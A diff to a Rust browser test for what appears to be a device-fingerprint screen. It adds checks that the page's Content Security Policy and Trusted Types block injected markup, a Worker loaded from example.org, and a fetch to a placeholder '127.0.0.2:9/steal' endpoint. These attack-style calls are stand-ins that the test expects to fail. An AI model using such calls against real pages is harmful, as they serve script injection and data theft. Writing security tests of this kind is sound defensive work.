@@ -734,6 +734,27 @@ async fn fingerprints_match_across_devices_and_a_key_the_server_swaps_is_shown()
         .await;
     let own = phone.text_of(".own-fingerprint .fingerprint").await;
     assert_eq!(own.len(), 19, "{own}");
+    // A script let in by a bug can neither write markup into the page nor
+    // start a script from elsewhere (Trusted Types, with the page's one
+    // policy), nor send anything to another origin (connect-src).
+    phone.assert_no_console_errors("the Devices screen").await;
+    let sinks = phone
+        .eval_async(
+            "const done = arguments[0]; const out = []; \
+             try { document.body.insertAdjacentHTML('beforeend', '<img src=x>'); out.push('html allowed'); } catch (e) { out.push(e.name); } \
+             try { new Worker('https://example.org/x.js'); out.push('worker allowed'); } catch (e) { out.push(e.name); } \
+             fetch('http://127.0.0.2:9/steal').then(() => out.push('fetch allowed'), (e) => out.push(e.name)).then(() => done(out.join(',')));",
+        )
+        .await;
+    assert_eq!(sinks, serde_json::json!("TypeError,TypeError,TypeError"));
+    let reported = phone.console_errors().await;
+    assert!(
+        !reported.is_empty()
+            && reported
+                .iter()
+                .all(|e| e.contains("Trusted") || e.contains("Content Security Policy")),
+        "{reported:#?}"
+    );
 
     laptop.click("#tab-devices").await;
     let listed = format!(
